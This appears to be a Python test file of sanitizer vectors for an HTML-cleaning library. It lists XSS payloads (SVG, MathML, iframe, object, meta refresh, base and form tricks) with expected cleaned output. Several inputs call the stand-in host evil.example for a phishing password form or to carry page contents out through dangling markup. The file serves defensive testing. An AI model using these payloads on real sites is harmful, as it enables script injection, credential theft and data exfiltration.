# SPDX-FileCopyrightText: 2026 The Postroom authors
# SPDX-License-Identifier: Apache-2.0
"""Elements that act: SVG, MathML, frames, objects, media, forms, meta, base, refresh, custom elements, and old ones."""

from html_case import link, vector

IMG = "<img src=1 onerror=alert(1)>"
JS = "javascript:alert(1)"

# -- SVG ----------------------------------------------------------------------------------------------------------------
SVG = [
    ("onload", "<svg onload=alert(1)></svg>"),
    ("onload-slash", "<svg/onload=alert(1)></svg>"),
    ("script", "<svg><script>alert(1)</script></svg>"),
    ("script-entity", "<svg><script>&#97;lert(1)</script></svg>"),
    ("script-href", "<svg><script href='data:,alert(1)'></script></svg>"),
    ("script-xlink", "<svg><script xlink:href='data:,alert(1)'/></svg>"),
    ("script-cdata", "<svg><script><![CDATA[alert(1)]]></script></svg>"),
    ("script-comment", "<svg><script>al<!-- -->ert(1)</script></svg>"),
    ("a-href", f"<svg><a href='{JS}'><text y=9>a</text></a></svg>"),
    ("a-xlink", f"<svg><a xlink:href='{JS}'><text y=9>a</text></a></svg>"),
    ("a-animate", f"<svg><a><animate attributeName=href values={JS} /><text y=9>a</text></a></svg>"),
    ("a-set", f"<svg><a><set attributeName=href to={JS} /><text y=9>a</text></a></svg>"),
    (
        "a-animate-from",
        f"<svg><a xlink:href=#><animate attributeName=xlink:href from={JS} to=# dur=9s /><text y=9>a</text></a></svg>",
    ),
    ("animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("animate-onend", "<svg><animate onend=alert(1) attributeName=x dur=0.1s></svg>"),
    ("set-onbegin", "<svg><set onbegin=alert(1) attributeName=x to=1></svg>"),
    ("animatetransform", "<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>"),
    ("animatemotion", "<svg><animateMotion onbegin=alert(1) dur=1s></svg>"),
    ("discard", "<svg><discard onbegin=alert(1)></svg>"),
    (
        "use-data",
        (
            "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1"
            " onerror=alert(1) /></svg>#x'/></svg>"
        ),
    ),
    ("use-remote", "<svg><use xlink:href='https://evil.example/x.svg#y'/></svg>"),
    ("image-href", "<svg><image href='https://evil.example/a.png'/></svg>"),
    ("image-onerror", "<svg><image href=1 onerror=alert(1) /></svg>"),
    ("feimage", "<svg><filter><feImage href='https://evil.example/a.png'/></filter></svg>"),
    ("handler", "<svg><handler ev:event=load type=text/javascript>alert(1)</handler></svg>"),
    ("foreignobject-iframe", f"<svg><foreignObject><iframe src={JS}></iframe></foreignObject></svg>"),
    ("foreignobject-body", "<svg><foreignObject><body onload=alert(1)>a</body></foreignObject></svg>"),
    ("style", "<svg><style>*{background:url(https://evil.example/a.png)}</style></svg>"),
    ("title", f"<svg><title>{IMG}</title></svg>"),
    ("switch", f"<svg><switch><foreignObject>{IMG}</foreignObject></switch></svg>"),
    ("tref", "<svg><tref xlink:href='https://evil.example/x.svg#y'/></svg>"),
    ("cursor", "<svg><cursor xlink:href='https://evil.example/a.png'/></svg>"),
    ("marker-url", "<svg><path d='M0 0' marker-start='url(https://evil.example/x.svg#y)'/></svg>"),
    ("text", "<svg><text x=1 y=9>words of a picture</text></svg>"),
]
for name, html in SVG:
    leaves = name in ("foreignobject-body",)
    vector(
        f"svg-{name}",
        f"<p>a</p>{html}<p>d</p>",
        "SVG is dropped with all it holds",
        None if leaves else "<p>a</p><p>d</p>",
        "svg",
    )
vector("svg-unclosed", "<p>a</p><svg><g><circle onclick=alert(1)>", "SVG that never ends", "<p>a</p>", "svg")
vector("svg-stray-end", "<p>a</svg>b</p>", "an end tag that nothing opened", "<p>ab</p>")
vector(
    "svg-elements-outside",
    f"<p>a</p><circle onclick=alert(1)>b</circle><animate onbegin=alert(1)><set onbegin=alert(1)>c<p>d</p>",
    "names of SVG outside of it are unknown elements",
)
vector(
    "svg-upper",
    f"<p>a</p><SVG><SCRIPT>alert(1)</SCRIPT></SVG><p>d</p>",
    "letters in any case",
    "<p>a</p><p>d</p>",
    "svg",
)

# -- MathML -------------------------------------------------------------------------------------------------------------
for name, html in [
    ("href", f"<math href='{JS}'>a</math>"),
    ("mi-href", f"<math><mi href='{JS}'>a</mi></math>"),
    ("xlink-href", f"<math><mtext xlink:href='{JS}'>a</mtext></math>"),
    (
        "maction-statusline",
        f"<math><maction actiontype='statusline#https://example.org/' xlink:href='{JS}'>a</maction></math>",
    ),
    ("maction-toggle", f"<math><maction actiontype=toggle><mi href='{JS}'>a</mi></maction></math>"),
    (
        "semantics",
        (
            f"<math><semantics><annotation-xml"
            f" encoding='text/html'><script>alert(1)</script></annotation-xml></semantics></math>"
        ),
    ),
    ("brackets", f"<math><annotation-xml encoding='text/html'>{IMG}</annotation-xml></math>"),
    ("mglyph-src", "<math><mtext><mglyph src='https://evil.example/a.png'></mglyph></mtext></math>"),
    ("onclick", "<math onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus><mi>a</mi></math>"),
    ("style", "<math><mstyle style='background:url(https://evil.example/a.png)'><mi>a</mi></mstyle></math>"),
]:
    vector(f"math-{name}", f"<p>a</p>{html}<p>d</p>", "MathML is dropped with all it holds", "<p>a</p><p>d</p>", "math")

# -- Frames, objects, media -----------------------------------------------------------------------------------------------
EMBEDS = [
    ("iframe-src", f"<iframe src={JS}></iframe>", "iframe"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "iframe"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>", "iframe"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>", "iframe"),
    ("iframe-data", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", "iframe"),
    ("iframe-remote", "<iframe src=//evil.example/ allow=camera credentialless></iframe>", "iframe"),
    ("object-data", "<object data='data:text/html,<script>alert(1)</script>'>words</object>", "object"),
    ("object-javascript", f"<object data={JS}></object>", "object"),
    ("object-onerror", "<object data=1 onerror=alert(1)></object>", "object"),
    ("object-param", f"<object><param name=src value={JS}><param name=code value={JS}>{IMG}</object>", "object"),
    ("object-nested", f"<object><object>{IMG}</object></object>", "object"),
    ("applet", f"<applet code=x archive=https://evil.example/x.jar>{IMG}</applet>", "applet"),
    ("audio", "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)>words</audio>", "audio"),
    (
        "video",
        "<video poster=https://evil.example/a.png onloadstart=alert(1)><source onerror=alert(1) src=1></video>",
        "video",
    ),
    (
        "video-track",
        "<video src=https://evil.example/a.mp4><track src=https://evil.example/a.vtt kind=captions default></video>",
        "video",
    ),
    ("video-words", f"<video><p>words</p>{IMG}</video>", "video"),
    ("select", f"<select onfocus=alert(1) autofocus><option>a</option></select>", "select"),
    ("textarea", "<textarea onfocus=alert(1) autofocus>a</textarea>", "textarea"),
    ("button", f"<button onclick=alert(1) formaction={JS} popovertarget=x>a</button>", "button"),
    ("template", f"<template><script>alert(1)</script></template>", "template"),
]
for name, html, removed in EMBEDS:
    vector(
        f"embed-{name}",
        f"<p>a</p>{html}<p>d</p>",
        f"`{removed}` is dropped with all it holds",
        "<p>a</p><p>d</p>",
        removed,
    )
VOIDS = [
    ("embed", "<embed src=https://evil.example/x.swf allowscriptaccess=always onload=alert(1)>", "embed"),
    ("embed-svg", "<embed src='data:image/svg+xml,%3Csvg/%3E' type=image/svg+xml>", "embed"),
    ("bgsound", f"<bgsound src={JS}>", "bgsound"),
    ("source", "<source src=1 onerror=alert(1)>", "source"),
    ("track", "<track src=https://evil.example/x>", "track"),
    ("param", f"<param name=movie value={JS}>", "param"),
    ("input-image", "<input type=image src=1 onerror=alert(1)>", "input"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "input"),
    ("input-formaction", f"<input type=submit formaction={JS}>", "input"),
    ("meta-refresh", f"<meta http-equiv=refresh content='0;url={JS}'>", "meta"),
    ("meta-refresh-data", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>", "meta"),
    ("meta-refresh-remote", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "meta"),
    ("meta-set-cookie", "<meta http-equiv=Set-Cookie content='a=b'>", "meta"),
    ("meta-csp", "<meta http-equiv=Content-Security-Policy content='report-uri https://evil.example/'>", "meta"),
    ("meta-link", "<meta http-equiv=Link content='<https://evil.example/x.css>; rel=stylesheet'>", "meta"),
    ("meta-referrer", "<meta name=referrer content=unsafe-url>", "meta"),
    ("meta-viewport", "<meta name=viewport content='width=1'>", "meta"),
    ("base-href", "<base href='https://evil.example/'>", "base"),
    ("base-javascript", "<base href='javascript:alert(1)//'>", "base"),
    ("base-target", "<base target=_top>", "base"),
    ("frame", f"<frame src={JS}>", None),
    ("keygen", "<keygen autofocus onfocus=alert(1)>", "keygen"),
    ("isindex", f"<isindex action={JS} type=image src=1 onerror=alert(1)>", None),
    ("basefont", "<basefont color=red>", "basefont"),
    ("command", f"<command onclick=alert(1) icon={JS}>", None),
    ("spacer", "<spacer type=block>", None),
]
for name, html, removed in VOIDS:
    vector(
        f"void-{name}",
        f"<p>a</p>{html}<p>d</p>",
        "an element without content",
        "<p>a</p><p>d</p>" if removed else None,
        removed or "",
    )
vector(
    "embed-frameset",
    f"<frameset><frame src={JS}><noframes>{IMG}</noframes></frameset>",
    "frames, and what is there without",
)
vector(
    "embed-svg-in-object",
    f"<object><svg onload=alert(1)></svg></object><p>d</p>",
    "SVG in an object",
    "<p>d</p>",
    "object",
)
vector(
    "embed-iframe-in-attribute",
    '<iframe src="https://evil.example/" style="</iframe>"></iframe><p>d</p>',
    "an end tag in an attribute",
    "<p>d</p>",
    "iframe",
)

# -- Elements whose content stays -----------------------------------------------------------------------------------------
UNKNOWN = [
    ("layer", "<layer src=https://evil.example/>a</layer>"),
    ("ilayer", "<ilayer src=https://evil.example/>a</ilayer>"),
    ("marquee", "<marquee behavior=alternate onbounce=alert(1)>a</marquee>"),
    ("blink", "<blink>a</blink>"),
    ("xml", "<xml id=x><a1>a</a1></xml>"),
    ("xml-island", "<xml src=https://evil.example/x.xml id=x></xml>a"),
    ("custom", "<x-tag onclick=alert(1)>a</x-tag>"),
    ("custom-constructor", "<y-constructor style=color:red>a</y-constructor>"),
    ("namespace", "<o:p onclick=alert(1)>a</o:p>"),
    ("vml", "<v:shape onclick=alert(1)>a</v:shape>"),
    ("dialog", "<dialog open onclose=alert(1)>a</dialog>"),
    ("fieldset", "<fieldset><legend>a</legend>b</fieldset>"),
    ("label", "<label for=x onclick=alert(1)>a</label>"),
    ("form", f"<form action={JS} onsubmit=alert(1)>a</form>"),
    ("form-target", "<form action=https://evil.example/ target=_self method=dialog>a</form>"),
    ("map", f"<map name=x><area href={JS} shape=default></map>a"),
    ("progress", "<progress value=1 onclick=alert(1)>a</progress>"),
    ("meter", "<meter value=1>a</meter>"),
    ("output", "<output onclick=alert(1)>a</output>"),
    ("datalist", "<datalist id=x>a</datalist>"),
    ("hgroup", "<hgroup>a</hgroup>"),
    ("acronym", "<acronym>a</acronym>"),
    ("nobr", "<nobr>a</nobr>"),
    ("multicol", "<multicol>a</multicol>"),
    ("comment-element", "<comment>a</comment>"),
    ("slot", "<slot name=x onslotchange=alert(1)>a</slot>"),
    ("portal", "<portal src=https://evil.example/>a</portal>"),
    ("fencedframe", "<fencedframe>a</fencedframe>"),
    ("selectedcontent", "<selectedcontent>a</selectedcontent>"),
    ("rb", "<rb>a</rb>"),
    ("data", "<data value=1>a</data>"),
    ("search", "<search>a</search>"),
    ("menu", "<menu type=context>a</menu>"),
    ("dir", "<dir>a</dir>"),
    ("canvas", "<canvas onclick=alert(1)>a</canvas>"),
    ("event-source", "<event-source src=https://evil.example/>a</event-source>"),
    ("listener", "<listener event=x handler=y>a</listener>"),
    ("t-set", "<t:set attributeName=innerHTML to='x'>a</t:set>"),
]
for name, html in UNKNOWN:
    vector(f"unknown-{name}", f"<p>b</p>{html}", "an element that is not kept; its content is")
for name, html, out, removed in [
    ("x-tag", "<x-tag>a</x-tag>", "a", "x-tag"),
    ("nested", "<x1><b>a<x2>c</x2></b></x1>", "<b>ac</b>", "x1 x2"),
    ("upper", "<BLINK>a</BLINK>", "a", "blink"),
    ("unclosed", "<blink><b>a</b>", "<b>a</b>", "blink"),
    ("long-name", "<" + "a" * 90 + ">b</" + "a" * 90 + ">", "b", "a" * 90),
    ("acronym-in-p", "<p>a <acronym title=b>c</acronym> d</p>", "<p>a c d</p>", "acronym"),
    ("o-p", "<p>a<o:p></o:p></p>", "<p>a</p>", "o:p"),
    ("dialog-in-div", "<div><dialog open>a</dialog></div>", "<div>a</div>", "dialog"),
]:
    vector(f"unwrapped-{name}", html, "an element that is not kept; its content is", out, removed)

# -- Forms that take over -------------------------------------------------------------------------------------------------
for name, html in [
    (
        "password",
        (
            "<form action=https://evil.example/ method=post>Password <input type=password name=p><input type=submit"
            " value=Go></form>"
        ),
    ),
    ("dangling", "<form action=https://evil.example/><textarea name=x><p>the rest of the page</p>"),
    ("dangling-button", "<button form=x formaction=https://evil.example/>Go"),
    ("dangling-img", "<img src='https://evil.example/?<p>the rest"),
    ("dangling-link", "<a href=https://evil.example/?x=\"<p>the rest</p>\">y"),
    ("dangling-target", "<a href=https://evil.example/ target='<p>the rest</p>'>y</a>"),
    ("dangling-base", "<base target='<p>the rest"),
    ("dangling-option", "<form action=https://evil.example/><select name=x><option><p>the rest"),
    ("dangling-meta", "<meta http-equiv=refresh content='0;url=https://evil.example/?<p>the rest"),
    ("dangling-noscript", "<noscript><p>the rest"),
    ("dangling-comment", "<p>a</p><!-- the rest"),
    ("dangling-style", "<p>a</p><style>the rest"),
    ("dangling-table", "<table><tr><td>a</div></div></section></td>"),
    ("leave-page", "</div></div></div></section></main></body></html><p>a</p>"),
]:
    vector(f"hijack-{name}", html, "takes over what follows it on the page")
vector(
    "hijack-link-form",
    '<form id=x action=https://evil.example/></form><a href="https://example.org/" form=x formmethod=post>x</a>',
    "attributes of a form on a link",
    link("https://example.org/"),
    "form @form @formmethod",
)
